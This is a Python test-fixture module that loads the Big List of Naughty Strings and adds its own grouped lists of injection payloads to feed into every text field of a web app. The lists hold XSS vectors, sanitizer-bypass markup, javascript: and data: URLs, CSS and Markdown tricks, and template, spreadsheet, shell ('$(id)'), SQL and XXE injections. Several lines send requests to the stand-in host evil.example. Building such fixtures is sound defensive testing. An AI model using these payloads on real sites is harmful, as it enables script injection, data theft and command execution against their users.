"""Texts that have made browsers, templates and charts run something: what is written into every field that takes a text.

Gives ``NAUGHTY``, the Big List of Naughty Strings (its origin stands in ``naughty/README.md``), and ``HOSTILE``, our own by what they
try. Each calls ``alert`` or asks ``evil.example`` for something, so that a browser shows at once which one did.
"""

import json
from pathlib import Path

NAUGHTY: tuple[str, ...] = tuple(
    dict.fromkeys(json.loads((Path(__file__).parent / "naughty/blns.json").read_text(encoding="utf-8")))
)

_TAGS = (
    "<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<script/x>alert(1)</script/x>", "<script\n>alert(1)</script\n>",
    "<script src=//evil.example/x.js></script>", "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>",
    "<script type=text/vbscript>alert(1)</script>", "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(1)", "<script>/*", "*/alert(1)</script>", "<script\x20type='text/javascript'>alert(1)</script>",
    "<script>`${alert(1)}`</script>", "<script>eval(name)</script>", "<script defer src=/assets/x.js></script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<script nonce=x>alert(1)</script>",
    '<script type=importmap>{"imports":{"x":"//evil.example"}}</script>', '<script type=speculationrules>{"prefetch":[{"urls":["//evil.example"]}]}</script>',
)  # fmt: skip
_EVENTS = (
    "<img src=x onerror=alert(1)>", "<IMG SRC=x ONERROR=alert(1)>", "<img src=x onerror=alert`1`>", "<img/src='x'/onerror='alert(1)'>",
    "<img src=x:x onerror\n=\nalert(1)>", '<img src=x onerror="&#97;lert(1)">', "<img src=1 href=1 onerror=alert(1)></img>",
    "<body onload=alert(1)>", "<body onpageshow=alert(1)>", "<body onhashchange=alert(1)>", "<body onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)>",
    "<video src=x onerror=alert(1)>", "<audio src onloadstart=alert(1)>", "<marquee onstart=alert(1)>", "<iframe onload=alert(1)>",
    "<object data=x onerror=alert(1)>", "<embed src=x onload=alert(1)>", "<link rel=stylesheet href=x onerror=alert(1)>",
    "<style onload=alert(1)></style>", "<x onclick=alert(1) tabindex=1 id=x>x", "<x contenteditable onblur=alert(1)>", "<p onbeforescriptexecute=alert(1)>",
    "<div onpointerover=alert(1)>x</div>", "<div style=animation-name:x onanimationstart=alert(1)>", "<x oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>",
    "<button popovertarget=x>x</button><x popover id=x onbeforetoggle=alert(1)>", "<dialog open onclose=alert(1)>", "<form><button formaction=javascript:alert(1)>x",
    "<isindex type=image src=1 onerror=alert(1)>", "<bgsound src=javascript:alert(1)>", "<frameset onload=alert(1)>", "<table background=javascript:alert(1)>",
    "<a onmouseover=alert(1)>x</a>", '<a onmouseover="alert(1)">x</a>', "<time onscrollend=alert(1)>", "<abbr title=x onmouseenter=alert(1)>x</abbr>",
)  # fmt: skip
_OUT_OF_ATTRIBUTES = (
    '"><script>alert(1)</script>', "'><script>alert(1)</script>", '" onmouseover="alert(1)', "' onmouseover='alert(1)", '" autofocus onfocus=alert(1) x="',
    "' autofocus onfocus=alert(1) x='", '"/onerror="alert(1)', "`onmouseover=alert(1)", '"><img src=x onerror=alert(1)>', "'><img src=x onerror=alert(1)>",
    "--><img src=x onerror=alert(1)>", "--!><img src=x onerror=alert(1)>", "]]><img src=x onerror=alert(1)>", "-->]]>\"'><svg onload=alert(1)>", '"\n>\n<svg onload=alert(1)>',
    '\\"><img src=x onerror=alert(1)>', "\\'><img src=x onerror=alert(1)>", '" style="position:fixed;inset:0', '" href="javascript:alert(1)', 'x" srcdoc="<script>alert(1)</script>',
    '"></style><script>alert(1)</script>', "&quot;><img src=x onerror=alert(1)>", "&#34;><img src=x onerror=alert(1)>", "%22%3E%3Cimg src=x onerror=alert(1)%3E", "\u201d onmouseover=\u201dalert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e", "\u2039script\u203aalert(1)", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "<\u200bscript>alert(1)", "<\u0000script>alert(1)",
)  # fmt: skip
_OUT_OF_ELEMENTS = (
    "</title><script>alert(1)</script>", "</title><img src=x onerror=alert(1)>", "</textarea><img src=x onerror=alert(1)>", "</style><img src=x onerror=alert(1)>",
    "</script><script>alert(1)</script>", "</SCRIPT ><img src=x onerror=alert(1)>", "</noscript><img src=x onerror=alert(1)>", "</template><img src=x onerror=alert(1)>",
    "</iframe><img src=x onerror=alert(1)>", "</xmp><img src=x onerror=alert(1)>", "</plaintext><img src=x onerror=alert(1)>", "</select><img src=x onerror=alert(1)>",
    "</svg><img src=x onerror=alert(1)>", "</math><img src=x onerror=alert(1)>", "</body></html><script>alert(1)</script>", "</head><body onload=alert(1)>", "<plaintext>", "<xmp>", "<!--", "<![CDATA[",
    "<base href=//evil.example/>", "<meta http-equiv=refresh content=0;url=//evil.example>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">', "<meta name=referrer content=unsafe-url>", "<link rel=import href=//evil.example>", "<link rel=prefetch href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=manifest href=//evil.example>", "<link rel=dns-prefetch href=//evil.example>", "<html manifest=//evil.example>",
    "<?xml-stylesheet href='javascript:alert(1)'?>", "<!DOCTYPE x [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><x>&x;</x>", "<!ENTITY % x SYSTEM '//evil.example'> %x;", "<?php system('id') ?>",
)  # fmt: skip
_FETCHES = (
    "<img src=//evil.example/x.png>", "<img srcset='//evil.example/x 1x'>", "<picture><source srcset=//evil.example/x>", "<video poster=//evil.example/x>", "<audio src=//evil.example/x autoplay>",
    "<track src=//evil.example/x>", "<iframe src=//evil.example/></iframe>", "<iframe src=javascript:alert(1)>", "<iframe srcdoc='<script>alert(1)</script>'>", "<iframe src=data:text/html,<script>alert(1)</script>>",
    "<object data=//evil.example/x>", "<object data=javascript:alert(1)>", "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>", "<embed src=javascript:alert(1)>", "<embed code=//evil.example/x>",
    "<applet code=x codebase=//evil.example>", "<input type=image src=//evil.example/x>", "<body background=//evil.example/x>", "<a ping=//evil.example href=#>x</a>", "<form action=//evil.example><input name=x></form>",
    "<portal src=//evil.example>", "<fencedframe src=//evil.example>", "<frame src=javascript:alert(1)>", "<layer src=//evil.example>", "![x](//evil.example/x.png)", "![x](https://evil.example/x.png)", "![x][y]\n\n[y]: //evil.example/x.png",
)  # fmt: skip
_DRAWN = (
    "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><script>alert&lpar;1&rpar;</script></svg>", "<svg><script href=//evil.example/x.js /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onbegin=alert(1) attributeName=x to=1>", "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=20>x</text></a>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>alert(1)</script></svg>#x' />",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>", "<svg><image href=//evil.example/x.png /></svg>", "<svg><feImage href=//evil.example/x.svg /></svg>", "<svg><style>@import '//evil.example/x.css';</style></svg>",
    "<svg><style>*{fill:url(//evil.example/x#y)}</style></svg>", "<svg><discard onbegin=alert(1)>", "<svg><title><img src=x onerror=alert(1)></title></svg>", "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></desc></svg>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "<text fill='url(//evil.example)'>x</text>", "</text><script>alert(1)</script><text>", "</tspan></text><image href='//evil.example/x'/>", "<g filter='url(//evil.example/#x)'/>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<math href='javascript:alert(1)'>x</math>", "<math><maction actiontype='statusline#//evil.example' xlink:href='javascript:alert(1)'>x</maction></math>", "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
)  # fmt: skip
#: What a parser mends into something else than what a filter saw.
_MENDED = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>", "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><style></noscript><img src=x onerror=alert(1)>", "<math><mtext><mglyph><svg><mtext><style><a title='</style><img src=x onerror=alert(1)>'>", "<svg><p><style><!--</style><img src=x onerror=alert(1)>-->", "<table><td><svg><desc><table><td></table><style><!--</style><img src=x onerror=alert(1)>-->",
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=alert(1)>'>", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>", "<p id='</p><img src=x onerror=alert(1)>'>", "<a href='\u2028javascript:alert(1)'>x</a>", "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>", "<div><template shadowroot=open><script>alert(1)</script></template></div>", "`<img src=x onerror=alert(1)>`", "``` <img src=x onerror=alert(1)> ```", "<img src='x`' onerror=alert(1)>", "<a><b><i><p></a></b></i><img src=x onerror=alert(1)>", "<table><script>alert(1)</script></table>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]>", "<img alt='<x' title='/><img src=x onerror=alert(1)>'>", "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)", "&#60;script&#62;alert(1)&#60;/script&#62;", "&#x3c;img src=x onerror=alert(1)&#x3e;", "&#0000060img src=x onerror=alert(1)&gt", "&LT;script&GT;alert(1)", "\\<script\\>alert(1)\\</script\\>", "\\x3cscript\\x3ealert(1)", "\\u003cscript\\u003ealert(1)",
)  # fmt: skip
_ADDRESSES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)", "javascript\t:alert(1)", "javascript&colon;alert(1)", "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "jav&Tab;ascript:alert(1)", "jav&NewLine;ascript:alert(1)", "javascript://evil.example/%0aalert(1)",
    "javascript:alert(1)//https://a.example", "javascript%3Aalert(1)", "\u0001javascript:alert(1)", "vbscript:msgbox(1)", "livescript:alert(1)", "mocha:alert(1)", "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "data:application/xhtml+xml,<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>", "blob:https://evil.example/x", "filesystem:https://evil.example/x", "view-source:javascript:alert(1)", "feed:javascript:alert(1)", "intent://evil.example#Intent;scheme=https;end", "file:///etc/passwd", "//evil.example", "///evil.example", "\\\\evil.example", "/\\evil.example", "https:evil.example",
    "https://user:pass@evil.example", "https://a.example\\@evil.example", "https://evil.example\u3002x", "?x=<script>alert(1)</script>", "#<img src=x onerror=alert(1)>", "#javascript:alert(1)", "../../../../etc/passwd", "..%2f..%2fx",
)  # fmt: skip
_MARKDOWN = (
    "[x](javascript:alert(1))", "[x](JAVASCRIPT:alert(1))", "[x]( javascript:alert(1))", "[x](<javascript:alert(1)>)", "[x](java&Tab;script:alert(1))", "[x](&#106;avascript:alert(1))", "[x](javascript:alert(1) 'a\" onmouseover=\"alert(1)')", "[x](https://a.example 'a\" onmouseover=\"alert(1)')", '[x](https://a.example" onmouseover="alert(1))',
    "[x](data:text/html,x)", "[x][y]\n\n[y]: javascript:alert(1)", "[x]\n\n[x]: data:text/html,x", "<javascript:alert(1)>", "<data:text/html,x>", '<https://a.example"onmouseover=alert(1)>', "![x](javascript:alert(1))", '![x" onerror="alert(1)](x.png)', "![x](x.png 'a\" onerror=\"alert(1)')", "![<img src=x onerror=alert(1)>](x)", "[<img src=x onerror=alert(1)>](https://a.example)",
    "[![x](https://evil.example/x)](javascript:alert(1))", "# <img src=x onerror=alert(1)>", "`<script>alert(1)</script>`", "```html onload=alert(1)\n<script>alert(1)</script>\n```", "``` { .x onclick=alert(1) }\nx\n```", '~~~ "><script>alert(1)</script>\nx\n~~~', "| <img src=x onerror=alert(1)> | x |\n|---|---|\n| <script>alert(1)</script> | x |", "* <img src=x onerror=alert(1)>", "> <img src=x onerror=alert(1)>",
    "1. <img src=x onerror=alert(1)>", "[x]: #<script>alert(1)</script>", "[^1]\n\n[^1]: <img src=x onerror=alert(1)>", "*[x]: <img src=x onerror=alert(1)>", "x {: onclick=alert(1) }", "# x { #y onclick=alert(1) }", "[x](//evil.example){: target=_blank onclick=alert(1)}", "<div markdown=1 onclick=alert(1)>x</div>", "&lt;img src=x onerror=alert(1)&gt;", "\x02wzxhzdk:0\x03", "\u0002amp\u0003lt;script>", "**<script>**alert(1)**</script>**",
    "<<script>script>alert(1)", "[a](javascript\\:alert(1))", "[a](javascript:alert\\(1\\))", "<a href=javascript:alert(1)>x</a>", '<mailto:"onmouseover=alert(1)@a.example>', '<x@y.example"onmouseover="alert(1)>',
)  # fmt: skip
_STYLES = (
    "<style>*{background:url(//evil.example/x)}</style>", "<style>@import '//evil.example/x.css';</style>", "<div style=background:url(//evil.example/x)>x</div>", '<div style="width:expression(alert(1))">', '<div style="-moz-binding:url(//evil.example/x#y)">', "<div style='behavior:url(x.htc)'>", "<img style=xss:expression(alert(1))>", "<style>@font-face{src:url(//evil.example/x)}</style>",
    "red;background:url(//evil.example/x)", "}*{background:url(//evil.example/x)}", "*/}body{display:none}/*", "url(//evil.example/x)", "#000;}</style><script>alert(1)</script>", "\\75rl(//evil.example/x)", "image-set('//evil.example/x' 1x)", "attr(href)", "var(--x,url(//evil.example/x))", "<style>input[value^=a]{background:url(//evil.example/a)}</style>",
)  # fmt: skip
#: What a language inside of another would carry out: of templates, of Vega, of spreadsheets, shells and queries.
_INNER = (
    "{{ 7*1117 }}", "{{7*1117}}", "{% for x in range(9) %}alert{% endfor %}", "{# x #}", "${7*1117}", "#{7*1117}", "<%= 7*1117 %>", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{{ config }}", "{{ self._TemplateReference__context }}", "{% raw %}", "{% endraw %}{{ 7*1117 }}", "{{ _('x').__globals__ }}", "%(x)s %s %d", "{0.__class__}", "{x!r}", "%{7*1117}", "$(id)", "`id`", ";id", "|id", "'; DROP TABLE goals;--",
    '{"signal": "alert(1)"}', '{"expr": "alert(1)"}', "datum.x); alert(1); //", "'+alert(1)+'", '"+alert(1)+"', "');alert(1);('", "\\');alert(1);//", "datum['constructor']['constructor']('alert(1)')()", "[].constructor.constructor('alert(1)')()", "event.view.eval('alert(1)')", "${alert(1)}", "\u2028alert(1)\u2029", "*/alert(1)/*", "//\nalert(1)//", "-alert(1)-", "__proto__", "constructor", "toString", "hasOwnProperty", "prototype.x",
    "=1+1", "+1+1", "-1+1", "@SUM(1)", '=HYPERLINK("//evil.example","x")', "=cmd|'/c calc'!A1", "\t=1+1", ",=1+1", '";=1+1;"', "BEGIN:VALARM", "x\nATTENDEE:mailto:x@evil.example", "x\r\nSet-Cookie: a=b", "@w0@ @w1@", "@words@", "\ufffe", "\ufeff<script>alert(1)", "\u202e<script>", "\u2066x\u2069",
)  # fmt: skip
#: Names that a script would look for in the page's own objects.
_CLOBBERING = (
    "<form id=document><input name=cookie></form>", "<a id=goalposts href=//evil.example>", "<a id=goalpostsChart><a id=goalpostsChart name=vconcat href=//evil.example>", "<a id=goalpostsIndex href=cid:x>", "<img name=currentScript>", "<form name=body>", "<img name=getElementById>", "<iframe name=vega srcdoc=x>", "<output id=MiniSearch>", "<object id=localStorage>", "<form id=x><output name=y>",
)  # fmt: skip

HOSTILE: dict[str, tuple[str, ...]] = {
    "tags": _TAGS,
    "events": _EVENTS,
    "out of attributes": _OUT_OF_ATTRIBUTES,
    "out of elements": _OUT_OF_ELEMENTS,
    "fetches": _FETCHES,
    "drawn": _DRAWN,
    "mended": _MENDED,
    "addresses": _ADDRESSES,
    "Markdown": _MARKDOWN,
    "styles": _STYLES,
    "inner languages": _INNER,
    "clobbering": _CLOBBERING,
}

PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*NAUGHTY, *(each for kind in HOSTILE.values() for each in kind)])
)
